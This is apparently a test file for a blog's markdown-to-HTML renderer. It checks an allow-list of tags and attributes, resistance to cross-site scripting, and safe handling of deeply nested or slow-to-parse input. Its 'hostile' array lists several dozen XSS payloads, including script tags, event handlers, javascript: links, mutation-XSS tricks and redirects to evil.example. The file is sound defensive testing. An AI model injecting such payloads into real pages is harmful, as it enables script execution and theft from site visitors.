import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { TextNode } from '#contract/blog.ts'
import { articles } from '../../../demo/content/blog.ts'
import fc from '../../../test/fast-check.ts'
import { renderMarkdown } from './markdown.ts'
import { textNodes } from './text-nodes.ts'

const tags = new Set(
  'h2 h3 h4 p ul ol li blockquote pre code hr br a img strong em del sub sup table thead tbody tr th td'.split(
    ' ',
  ),
)
const mayHave: Record<string, RegExp> = {
  href: /^(https:\/\/|mailto:|\/(?![/\\]))[^\n\r\t]*$/i,
  src: /^\/(?![/\\])[^\n\r\t]*$/,
  rel: /^noopener$/,
  title: /^/,
  alt: /^/,
  start: /^\d+$/,
}

/** What the page shows is what is checked: every element and attribute that React will make. */
function check(markdown: string) {
  const html = renderMarkdown(markdown)
  const visit = (node: TextNode): void => {
    if (typeof node === 'string') return
    assert.ok(tags.has(node.tag), `<${node.tag}> from ${JSON.stringify(markdown)}`)
    for (const [name, value] of Object.entries(node.attributes))
      assert.ok(mayHave[name]?.test(value), `${name}=${value} from ${JSON.stringify(markdown)}`)
    if (node.tag === 'a' && node.attributes.href) assert.equal(node.attributes.rel, 'noopener')
    node.children.forEach(visit)
  }
  const nodes = textNodes(html)
  nodes.forEach(visit)
  // The tree loses nothing: written out again it is the same HTML, line breaks between blocks aside.
  assert.equal(squeeze(nodes.map(write).join('')), squeeze(html), JSON.stringify(markdown))
  return html
}

const squeeze = (html: string) => html.replace(/\s+/g, '')
const escaped = (text: string) =>
  text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;')

function write(node: TextNode): string {
  if (typeof node === 'string') return escaped(node).replaceAll('&quot;', '"')
  const { tag, attributes, children } = node
  const written = Object.entries(attributes).map(([name, value]) => ` ${name}="${escaped(value)}"`)
  const alone = ['br', 'hr', 'img'].includes(tag)
  return `<${tag}${written.join('')}${alone ? ' />' : `>${children.map(write).join('')}</${tag}>`}`
}

const hostile = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="/media/a.webp" onload="alert(1)">',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVa\tScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](java\u0000script:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox)',
  '[x](//evil.example)',
  '[x](/\\evil.example)',
  '[x](http://plain.example)',
  '![x](https://elsewhere.example/track.gif)',
  '![x](//elsewhere.example/track.gif)',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="x"></object><embed src="x">',
  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  '<style>body{display:none}</style>',
  '<p style="position:fixed" onclick="x()" id="page" class="written">y</p>',
  '<base href="https://evil.example">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<a title="&quot; onmouseover=&quot;alert(1)" href="/">x</a>',
  '<template><script>alert(1)</script></template>',
  '`<script>alert(1)</script>`',
  '</div></article><h1>Bought!</h1>',
  '<p><p><a><a href="/x"><table><tr><td>',
]

test('nothing that runs, frames, submits or reaches elsewhere comes through', () => {
  for (const markdown of hostile) {
    const html = check(markdown)
    assert.doesNotMatch(
      html,
      /<(script|img|svg|iframe|form|style|base|meta|object|embed)[^>]*(onerror|evil|elsewhere)/i,
    )
  }
})

test('hostile pieces in any mixture stay harmless', () => {
  const piece = fc.oneof(
    fc.constantFrom(...hostile),
    fc.constantFrom(
      '<',
      '>',
      '"',
      "'",
      '`',
      '&',
      '&lt;',
      '&#x3c;',
      '/',
      '\\',
      '[',
      '](',
      ')',
      '!',
      '\n',
      '\n\n',
    ),
    fc.constantFrom(
      '# ',
      '- ',
      '1. ',
      '> ',
      '| a | b |\n|---|---|\n| c |',
      '**',
      '_',
      '~~',
      '```',
      '    ',
      ' on',
    ),
    fc.constantFrom(
      '<a href="',
      '<img src="',
      ' onerror="alert(1)',
      '<!--',
      '-->',
      '<p',
      '</p>',
      '<table>',
      '<td>',
    ),
    fc.string({ unit: 'binary', maxLength: 8 }),
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 14 }), pieces => {
      check(pieces.join(''))
    }),
    { numRuns: Number(process.env.HOSTILE ?? 2000) },
  )
})

test('what writers need is there', () => {
  const html = check(
    [
      '# Title\n\n## Part\n\nA **bold** and _soft_ word, [ours](/product), [theirs](https://example.org/a?b=1&c=2)',
      '[mail](mailto:hello@kanti.example) ![Rose](/media/rose.webp)\n\n- one\n- two\n\n3. three\n\n> said',
      '| a | b |\n|---|---|\n| c | d |\n\n---\n\nR&D < "law"',
    ].join('\n\n'),
  )
  for (const part of [
    '<h2>Title</h2>',
    '<h2>Part</h2>',
    '<strong>bold</strong>',
    '<em>soft</em>',
    '<a href="/product" rel="noopener">ours</a>',
    '<a href="https://example.org/a?b=1&amp;c=2" rel="noopener">theirs</a>',
    '<a href="mailto:hello@kanti.example" rel="noopener">mail</a>',
    '<img src="/media/rose.webp" alt="Rose" />',
    '<li>one</li>',
    '<ol start="3">',
    '<blockquote>',
    '<td>c</td>',
    '<hr />',
    'R&amp;D &lt; "law"',
  ])
    assert.ok(html.includes(part), `${part} in ${html}`)
  for (const { body } of articles) assert.ok(check(body).length > body.length)
})

test('deep nesting is cut, not followed', () => {
  check(`${'> '.repeat(3000)}deep`)
  check('<blockquote>'.repeat(3000))
  // Half a minute, were it parsed.
  check('_a'.repeat(50_000))
  check('['.repeat(20_000))
})

test('what the parser would need seconds for is shown as typed', () => {
  for (const text of [
    '!'.repeat(50_000),
    `- ${'a\n'.repeat(40_000)}`,
    '# a\n'.repeat(20_000),
    '> '.repeat(40_000),
    '>'.repeat(99_999),
    `${'- '.repeat(25)}a`,
    `a\n\n${'1. > '.repeat(25)}a`,
    `- a\n${'\t'.repeat(20)}- b`,
    'https://a.a/(('.repeat(3000),
  ])
    assert.match(renderMarkdown(text), /^<pre>/)
  for (const text of [
    '> > a',
    '- a\n  - b\n    1. c',
    '-'.repeat(80),
    '| a |\n| - |\n| b |',
    '- a\n'.repeat(1000),
    'a b c d e f\n\n'.repeat(5000),
  ])
    assert.doesNotMatch(renderMarkdown(text), /<pre>/)
})
